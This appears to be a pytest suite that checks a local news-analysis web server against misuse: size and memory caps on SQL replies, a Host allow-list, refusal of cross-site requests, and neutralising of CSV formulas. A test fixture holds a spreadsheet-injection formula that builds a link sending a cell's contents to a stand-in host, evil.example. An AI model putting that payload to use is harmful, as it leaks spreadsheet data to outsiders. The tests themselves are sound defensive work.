"""The web server cannot be turned against its user (issue 14, section 4).

Capped replies and a bounded SQL pool, the Host allow-list, cross-site background
requests, spreadsheet-safe CSV, no server paths in replies, HEAD, and the OpenAPI
document, first through the real app in-process, then (marked slow) through a real
`powderkeg serve` process: its memory while answering the query that used to build
a 1 GB reply, and page latencies while eight heavy queries run.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient

import powderkeg
from powderkeg.csvout import FORMULA_STARTS
from powderkeg.store import CELL_TRUNCATED
from powderkeg.web import Limits, allowed_hosts_for, create_app

#: The query of the issue: 10,000 cells of 100,000 characters, a 1 GB reply before the caps.
HUGE = "SELECT repeat('x', 100000) AS s FROM range(10000)"
#: Varies per row, so DuckDB cannot compute the cell once and share it.
HUGE_VARIED = "SELECT range AS n, repeat(CAST(range AS VARCHAR), 20000) AS s FROM range(10000)"
#: Runs until the time limit stops it.
SLOW = "SELECT sum(a.range * b.range) FROM range(300000) a, range(300000) b"

#: An article whose title, outlet and text would run as spreadsheet formulas.
FORMULA_ARTICLE = {
    "id": "formula-1",
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Serbia accuses Kosovo")',
    "outlet": "@Formula Wire",
    "published": "2025-07-03",
    "url": "https://formula.example/serbia-kosovo",
    "text": ("Serbia accused Kosovo of provoking violence in the north, the foreign ministry in Belgrade said. "
             "Kosovo rejected the accusation and called on the European Union to respond."),
}


def _client(db: Path, **limits: Any) -> TestClient:
    return TestClient(create_app(db, limits=Limits(**limits)), raise_server_exceptions=False,
                      base_url="http://localhost")


@pytest.fixture(scope="module")
def capped(web_db: Path) -> Iterator[TestClient]:
    """The app with small caps: 50 kB replies, 1,000-character cells, one SQL worker."""
    with _client(web_db, max_reply_bytes=50_000, max_cell_chars=1000, sql_timeout=3.0, sql_workers=1,
                 sql_wait=0.3) as client:
        yield client


@pytest.fixture(scope="module")
def formula_db(demo_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo knowledge base plus an article written to attack spreadsheets."""
    path = tmp_path_factory.mktemp("formula-db") / "formula.duckdb"
    shutil.copy(demo_db, path)
    src = path.parent / "formula.jsonl"
    src.write_text(json.dumps(FORMULA_ARTICLE) + "\n", encoding="utf-8")
    with powderkeg.open(path) as kb:
        assert kb.ingest([src]).n_new == 1
    return path


@pytest.fixture(scope="module")
def formula_client(formula_db: Path) -> Iterator[TestClient]:
    with _client(formula_db) as client:
        yield client


# --------------------------------------------------------------------------- SQL caps


@pytest.mark.parametrize("query", [HUGE, HUGE_VARIED])
def test_sql_reply_is_capped_in_bytes_and_cells(capped: TestClient, query: str) -> None:
    res = capped.get("/api/sql", params={"q": query, "limit": 10_000})
    assert res.status_code == 200, res.text
    assert len(res.content) <= 50_000
    body = res.json()
    assert body["truncated"] is True and {"bytes", "cell"} <= set(body["truncated_by"])
    assert 0 < body["count"] == len(body["rows"]) < 10_000
    cells = [row[-1] for row in body["rows"]]
    assert all(c.endswith(CELL_TRUNCATED) and len(c) == 1000 + len(CELL_TRUNCATED) for c in cells)
    assert body["cells_truncated"] >= body["count"]
    assert body["limits"] == {"rows": 10_000, "bytes": 50_000, "cell_chars": 1000, "seconds": 3.0}


def test_sql_csv_is_capped_and_says_so(capped: TestClient) -> None:
    res = capped.get("/api/sql", params={"q": HUGE_VARIED, "limit": 10_000, "format": "csv"})
    assert res.status_code == 200 and len(res.content) <= 50_000
    assert set(res.headers["x-powderkeg-truncated"].split(",")) == {"cell", "bytes"}
    rows = list(csv.reader(io.StringIO(res.text)))
    assert rows[0] == ["n", "s"] and all(r[1].endswith(CELL_TRUNCATED) for r in rows[1:])


def test_sql_row_limit_is_named(capped: TestClient) -> None:
    body = capped.get("/api/sql", params={"q": "SELECT * FROM range(100)", "limit": 7}).json()
    assert body["count"] == 7 and body["truncated_by"] == ["rows"]


def test_sql_caps_keep_types_order_and_nested_values(capped: TestClient) -> None:
    query = ("SELECT range AS n, -range AS neg, range * 0.5 AS half, DATE '2025-01-01' + range::INTEGER AS day, "
             "[range, range + 1] AS pair, {'k': range} AS obj, 'x' AS n FROM range(5) ORDER BY range DESC")
    body = capped.get("/api/sql", params={"q": query}).json()
    assert body["columns"] == ["n", "neg", "half", "day", "pair", "obj", "n"]
    assert body["truncated"] is False and body["truncated_by"] == []
    first = body["rows"][0]
    assert first[:4] == [4, -4, 2.0, "2025-01-05"]
    assert json.loads(first[4]) == [4, 5] and json.loads(first[5]) == {"k": 4} and first[6] == "x"
    assert [r[0] for r in body["rows"]] == [4, 3, 2, 1, 0]


def test_sql_memory_limit_stops_a_runaway_aggregate(capped: TestClient) -> None:
    res = capped.get("/api/sql", params={"q": "SELECT string_agg(repeat('x', 100000), '') FROM range(100000)"})
    assert res.status_code == 400
    assert "memory limit" in res.json()["error"] or "time limit" in res.json()["error"]


def test_a_busy_sql_pool_answers_503_and_pages_still_answer(capped: TestClient) -> None:
    replies: list[httpx.Response] = []
    slow = threading.Thread(target=lambda: replies.append(capped.get("/api/sql", params={"q": SLOW})))
    slow.start()
    try:
        deadline = time.monotonic() + 3
        busy = None
        while time.monotonic() < deadline:  # the one worker is taken once the slow query runs
            busy = capped.get("/api/sql", params={"q": "SELECT 1"})
            if busy.status_code == 503:
                break
        page = capped.get("/api/summary")
        sql_page = capped.get("/sql", params={"q": "SELECT 1"})  # the SQL page queues in the same pool
    finally:
        slow.join(timeout=30)
    assert busy is not None and busy.status_code == 503, busy.text if busy else None
    assert "busy" in busy.json()["error"] and busy.headers["retry-after"] == "1"
    assert page.status_code == 200
    assert sql_page.status_code == 503 and "busy" in sql_page.text
    assert replies and replies[0].status_code == 400 and "time limit" in replies[0].json()["error"]


# --------------------------------------------------------------------------- other lists


def test_list_pages_are_cut_at_the_byte_cap_and_go_on(capped: TestClient) -> None:
    total = capped.get("/api/events", params={"limit": 1}).json()["total"]
    seen: list[str] = []
    url: str | None = "/api/events?limit=10000"
    pages = 0
    while url:
        res = capped.get(url)
        assert res.status_code == 200 and len(res.content) <= 50_000
        body = res.json()
        seen += [e["id"] for e in body["items"]]
        if body["next"]:
            assert body["truncated"] is True and body["truncated_by"] == ["bytes"]
        url = body["next"]
        pages += 1
    assert pages > 1 and len(seen) == len(set(seen)) == total


def test_list_csv_is_cut_at_the_byte_cap_and_says_where_to_go_on(web_db: Path) -> None:
    with _client(web_db, max_reply_bytes=20_000) as small:
        res = small.get("/api/events", params={"limit": 10_000, "format": "csv"})
    assert len(res.content) <= 20_000
    assert res.headers["x-powderkeg-truncated"] == "bytes"
    n_rows = len(list(csv.DictReader(io.StringIO(res.text))))
    assert f"offset={n_rows}" in res.headers["x-powderkeg-next"]


def test_a_csv_cut_by_the_row_limit_says_so(client: TestClient) -> None:
    res = client.get("/api/events", params={"limit": 3, "format": "csv"})
    assert res.headers["x-powderkeg-truncated"] == "rows" and "offset=3" in res.headers["x-powderkeg-next"]


@pytest.mark.parametrize("path", ["/api/actors", "/api/people", "/api/labels/usage", "/api/outlets"])
def test_every_list_takes_a_limit(client: TestClient, path: str) -> None:
    body = client.get(path, params={"limit": 2}).json()
    assert body["count"] <= 2 and body["total"] >= body["count"]
    assert client.get(path, params={"limit": 100_000}).status_code == 422


# --------------------------------------------------------------------------- Host header


@pytest.mark.parametrize(("host", "status"), [
    ("localhost", 200), ("localhost:8000", 200), ("127.0.0.1:8123", 200), ("[::1]:8000", 200), ("[::1]", 200),
    ("LOCALHOST", 200),
    ("evil.example", 400), ("evil.example:8000", 400), ("localhost.evil.example", 400), ("127.0.0.2", 400),
    ("", 400),
])
def test_only_loopback_host_names_are_answered(client: TestClient, host: str, status: int) -> None:
    res = client.get("/api/summary", headers={"host": host})
    assert res.status_code == status, res.text
    if status == 400:
        assert "not served here" in res.json()["error"] and "--allowed-host" in res.json()["error"]


def test_allowed_hosts_are_added(web_db: Path) -> None:
    with TestClient(create_app(web_db, allowed_hosts=["localhost", "kb.lan"]), base_url="http://kb.lan") as c:
        assert c.get("/api/summary").status_code == 200
        assert c.get("/api/summary", headers={"host": "kb.lan:8000"}).status_code == 200
        assert c.get("/api/summary", headers={"host": "other.lan"}).status_code == 400


@pytest.mark.parametrize(("bind", "extra", "expected"), [
    ("127.0.0.1", [], ["localhost", "127.0.0.1", "[::1]"]),
    ("localhost", ["kb.lan"], ["localhost", "127.0.0.1", "[::1]", "kb.lan"]),
    ("192.168.1.20", [], ["localhost", "127.0.0.1", "[::1]", "192.168.1.20"]),
    ("0.0.0.0", ["kb.lan", "10.0.0.5"], ["localhost", "127.0.0.1", "[::1]", "kb.lan", "10.0.0.5"]),
    ("::", ["*"], ["localhost", "127.0.0.1", "[::1]", "*"]),
])
def test_allowed_hosts_for_a_bind_address(bind: str, extra: list[str], expected: list[str]) -> None:
    assert allowed_hosts_for(bind, extra) == expected


@pytest.mark.parametrize("bind", ["0.0.0.0", "::"])
def test_a_wildcard_bind_needs_allowed_hosts(bind: str) -> None:
    with pytest.raises(ValueError, match="--allowed-host"):
        allowed_hosts_for(bind, [])


# --------------------------------------------------------------------------- cross-site requests


@pytest.mark.parametrize(("headers", "status"), [
    ({"sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors", "sec-fetch-dest": "image"}, 403),
    ({"sec-fetch-site": "cross-site", "sec-fetch-mode": "cors", "sec-fetch-dest": "empty"}, 403),
    ({"sec-fetch-site": "same-site", "sec-fetch-mode": "navigate", "sec-fetch-dest": "iframe"}, 403),
    ({"sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate", "sec-fetch-dest": "document"}, 200),
    ({"sec-fetch-site": "same-origin", "sec-fetch-mode": "cors", "sec-fetch-dest": "empty"}, 200),
    ({"sec-fetch-site": "none", "sec-fetch-mode": "navigate", "sec-fetch-dest": "document"}, 200),
    ({}, 200),
])
def test_background_requests_from_other_sites_are_refused(client: TestClient, headers: dict[str, str],
                                                          status: int) -> None:
    res = client.get("/api/sql", params={"q": "SELECT 1"}, headers=headers)
    assert res.status_code == status, res.text


# --------------------------------------------------------------------------- CSV formulas


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_live_formula(cells: list[str]) -> None:
    live = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    assert not live, live[:5]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("path", ["/api/articles", "/api/events", "/api/quotes", "/api/disputes", "/api/outlets"])
def test_web_csv_neutralises_formulas(formula_client: TestClient, path: str) -> None:
    res = formula_client.get(path, params={"format": "csv", "limit": 10_000})
    cells = _csv_cells(res.text)
    _no_live_formula(cells)
    if path in ("/api/articles", "/api/events"):
        assert "'" + FORMULA_ARTICLE["title"] in cells
    if path == "/api/outlets":
        assert "'@Formula Wire" in cells


def test_sql_csv_neutralises_strings_but_keeps_negative_numbers(formula_client: TestClient) -> None:
    query = "SELECT -5 AS quantity, '-5' AS text, '=1+1' AS formula, 'plain' AS word, -2.5 AS value"
    res = formula_client.get("/api/sql", params={"q": query, "format": "csv"})
    assert list(csv.reader(io.StringIO(res.text)))[1] == ["-5", "'-5", "'=1+1", "plain", "-2.5"]


def test_cli_csv_neutralises_formulas(formula_db: Path) -> None:
    for args in (["articles"], ["events", "--limit", "1000"],
                 ["sql", "SELECT title, -3 AS n FROM articles"]):
        res = subprocess.run([sys.executable, "-m", "powderkeg", "--db", str(formula_db), *args, "--format", "csv"],
                             capture_output=True, text=True, timeout=120)
        assert res.returncode == 0, res.stderr
        cells = _csv_cells(res.stdout)
        _no_live_formula(cells)
        assert "'" + FORMULA_ARTICLE["title"] in cells, args
        if args[0] == "sql":
            assert "-3" in cells


def test_csv_export_neutralises_formulas(formula_db: Path, tmp_path: Path) -> None:
    with powderkeg.open(formula_db, read_only=True) as kb:
        kb.export(tmp_path, fmt="csv")
    cells = _csv_cells((tmp_path / "articles.csv").read_text(encoding="utf-8"))
    _no_live_formula(cells)
    assert "'" + FORMULA_ARTICLE["title"] in cells


def test_disputes_csv_writes_stances_as_json(client: TestClient) -> None:
    res = client.get("/api/disputes", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(res.text)))
    assert rows
    for row in rows:
        for side in ("asserted", "denied"):
            stances = json.loads(row[side])
            assert stances and all(isinstance(s, dict) and s["evidence"] for s in stances)


# --------------------------------------------------------------------------- server paths


def _api_paths(client: TestClient) -> list[str]:
    """One URL per GET route of the API, with real ids, plus error cases whose messages name things."""
    articles = client.get("/api/articles", params={"limit": 10_000}).json()["items"]
    paths = [r.path for r in client.app.routes  # type: ignore[attr-defined]
             if isinstance(r, APIRoute) and "{" not in r.path and r.path.startswith("/api") and r.path != "/api/sql"]
    paths += [f"/api/articles/{a['id']}" for a in articles]
    paths += [p + "?format=csv" for p in paths if "/articles/" not in p and p != "/api/summary"]
    paths += ["/api/actors/SRB", "/api/articles/ffffffffffff", "/api/articles/0", "/api/actors/ZZZ",
              "/api/sql?q=SELECT%20*%20FROM%20events", "/api/sql?q=SELECT%20*%20FROM%20nowhere",
              "/api/sql?q=DELETE%20FROM%20events", "/api/events?since=2025-13", "/api/nowhere"]
    return paths


def test_no_reply_names_a_server_path(client: TestClient, web_db: Path, demo_dir: Path) -> None:
    secret = [str(web_db.parent), str(demo_dir), str(Path.cwd())]
    for path in [*_api_paths(client), "/", "/articles", "/events", "/articles/ffffffffffff",
                 *(f"/articles/{a['id']}" for a in client.get("/api/articles").json()["items"])]:
        res = client.get(path)
        leaked = [s for s in secret if s in res.text]
        assert not leaked, (path, res.status_code, leaked)
    assert "source_path" not in client.get("/api/articles").json()["items"][0]
    assert "source_path" not in client.get("/api/articles", params={"format": "csv"}).text.splitlines()[0]


def test_store_errors_name_the_knowledge_base_not_the_file(client: TestClient) -> None:
    res = client.get("/api/articles/ffffffffffff")
    assert res.status_code == 404 and res.json()["error"].endswith("in the knowledge base")


# --------------------------------------------------------------------------- HEAD


def test_head_works_wherever_get_does(client: TestClient) -> None:
    article = client.get("/api/articles").json()["items"][0]["id"]
    paths = [r.path for r in client.app.routes if isinstance(r, APIRoute) and "{" not in r.path]  # type: ignore[attr-defined]
    paths += [f"/api/articles/{article}", f"/articles/{article}", "/api/actors/SRB", "/actors/SRB",
              "/api/sql?q=SELECT%201", "/static/favicon.svg", "/docs", "/openapi.json"]
    for path in paths:
        get, head = client.get(path), client.head(path)
        assert head.status_code == get.status_code == 200, (path, head.status_code, get.status_code)
        assert head.content == b"" and head.headers["content-type"] == get.headers["content-type"], path
        if "content-length" in get.headers and "/sql" not in path:
            assert head.headers["content-length"] == get.headers["content-length"], path
    assert client.head("/api/nowhere").status_code == 404


# --------------------------------------------------------------------------- OpenAPI


def test_openapi_documents_reply_models_and_the_error_shape(client: TestClient) -> None:
    spec = client.get("/openapi.json").json()
    schemas = spec["components"]["schemas"]
    assert set(schemas["ErrorReply"]["properties"]) == {"error", "details"}
    assert "HTTPValidationError" not in schemas
    for path, item in spec["paths"].items():
        if not path.startswith("/api"):
            continue
        responses = item["get"]["responses"]
        ok = responses["200"]["content"]["application/json"]["schema"]
        assert "$ref" in ok, (path, ok)
        if item["get"].get("parameters"):
            error = responses["422"]["content"]["application/json"]["schema"]
            assert error["$ref"].endswith("/ErrorReply"), path
    events = schemas[spec["paths"]["/api/events"]["get"]["responses"]["200"]["content"]["application/json"]
                     ["schema"]["$ref"].rsplit("/", 1)[1]]
    assert {"items", "count", "limit", "offset", "next", "total", "note", "truncated"} <= set(events["properties"])
    assert "text/csv" in spec["paths"]["/api/events"]["get"]["responses"]["200"]["content"]
    sql = spec["paths"]["/api/sql"]["get"]["responses"]
    assert {"200", "400", "422", "503"} <= set(sql)
    assert "source_path" not in schemas["Article"]["properties"] and "title" in schemas["Article"]["properties"]
    assert "404" in spec["paths"]["/api/articles/{article_id}"]["get"]["responses"]


# --------------------------------------------------------------------------- a real server process


def _serve(db: Path, port: int, *extra: str) -> subprocess.Popen[str]:
    proc = subprocess.Popen([sys.executable, "-m", "powderkeg", "--db", str(db), "serve", "--port", str(port),
                             *extra], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while True:
        try:
            httpx.get(f"http://127.0.0.1:{port}/api/summary", timeout=2)
            return proc
        except httpx.TransportError:
            if time.monotonic() > deadline or proc.poll() is not None:
                proc.kill()
                raise RuntimeError(f"serve did not start: {proc.communicate()[1]}") from None
            time.sleep(0.2)


def _stop(proc: subprocess.Popen[str]) -> str:
    proc.send_signal(signal.SIGINT)
    try:
        _, err = proc.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        proc.kill()
        _, err = proc.communicate()
    return err


def _peak_rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmHWM")


@pytest.mark.slow
def test_serve_refuses_foreign_host_headers(web_db: Path, free_port: int) -> None:
    proc = _serve(web_db, free_port)
    try:
        base = f"http://127.0.0.1:{free_port}"
        assert httpx.get(f"{base}/api/summary").status_code == 200
        assert httpx.get(f"{base}/api/summary", headers={"Host": f"localhost:{free_port}"}).status_code == 200
        rebound = httpx.get(f"{base}/api/summary", headers={"Host": f"attacker.example:{free_port}"})
        assert rebound.status_code == 400 and "n_articles" not in rebound.text
        assert httpx.get(f"{base}/", headers={"Host": "attacker.example"}).status_code == 400
    finally:
        _stop(proc)


@pytest.mark.slow
def test_serve_on_every_interface_needs_allowed_hosts(web_db: Path) -> None:
    res = subprocess.run([sys.executable, "-m", "powderkeg", "--db", str(web_db), "serve", "--host", "0.0.0.0"],
                         capture_output=True, text=True, timeout=60, env={**os.environ, "COLUMNS": "200"})
    assert res.returncode == 2 and "--allowed-host" in res.stderr


@pytest.mark.slow
def test_serve_memory_stays_bounded_under_the_huge_query(web_db: Path, free_port: int) -> None:
    cap = 2_000_000
    proc = _serve(web_db, free_port, "--max-reply-bytes", str(cap))
    try:
        base = f"http://127.0.0.1:{free_port}"
        before = _peak_rss_mb(proc.pid)
        timings = []
        for query in (HUGE, HUGE_VARIED):
            started = time.monotonic()
            res = httpx.get(f"{base}/api/sql", params={"q": query, "limit": 10_000}, timeout=60)
            timings.append(time.monotonic() - started)
            assert res.status_code == 200 and len(res.content) <= cap
            assert res.json()["truncated"] is True and "bytes" in res.json()["truncated_by"]
            csv_res = httpx.get(f"{base}/api/sql", params={"q": query, "limit": 10_000, "format": "csv"}, timeout=60)
            assert csv_res.status_code == 200 and len(csv_res.content) <= cap
        peak = _peak_rss_mb(proc.pid)
    finally:
        _stop(proc)
    print(f"\nserve peak RSS (VmHWM): {before:.0f} MiB after start, {peak:.0f} MiB after the huge queries; "
          f"reply times {', '.join(f'{t:.2f} s' for t in timings)}")
    assert peak < 1024


@pytest.mark.slow
def test_pages_answer_while_eight_heavy_queries_run(web_db: Path, free_port: int) -> None:
    proc = _serve(web_db, free_port, "--sql-timeout", "4")
    base = f"http://127.0.0.1:{free_port}"
    sql_results: list[tuple[int, float, float]] = []  # (status, started, ended)

    def heavy() -> None:
        started = time.monotonic()
        res = httpx.get(f"{base}/api/sql", params={"q": SLOW}, timeout=60)
        sql_results.append((res.status_code, started, time.monotonic()))

    try:
        threads = [threading.Thread(target=heavy) for _ in range(8)]
        for t in threads:
            t.start()
        time.sleep(0.5)
        page_results: list[tuple[str, int, float, float]] = []
        for path in ("/", "/events", "/api/summary", "/api/events?limit=50", "/articles", "/"):
            started = time.monotonic()
            res = httpx.get(f"{base}{path}", timeout=60)
            page_results.append((path, res.status_code, started, time.monotonic()))
        for t in threads:
            t.join(timeout=120)
    finally:
        _stop(proc)
    statuses = sorted(s for s, _, _ in sql_results)
    last_sql_end = max(end for _, _, end in sql_results)
    print("\nheavy SQL replies:", statuses,
          "durations", [f"{end - start:.2f}" for _, start, end in sql_results])
    print("page latencies while they ran:", [(p, f"{(end - start) * 1000:.0f} ms") for p, _, start, end in page_results])
    assert len(sql_results) == 8 and set(statuses) <= {400, 503} and 503 in statuses
    assert all(status == 200 for _, status, _, _ in page_results)
    # The pages were answered while heavy queries were still running, not after them.
    assert max(end for _, _, _, end in page_results) < last_sql_end


def test_the_sql_page_has_the_same_caps_as_the_api(capped: TestClient) -> None:
    """The /sql page runs through the SQL pool with the server's caps, not around them."""
    res = capped.get("/sql", params={"q": "SELECT repeat('x', 200000) AS s FROM range(3)"})
    assert res.status_code == 200, res.text
    assert "x" * 1001 not in res.text  # every cell cut at the 1,000-character cap
    assert len(res.content) < 50_000
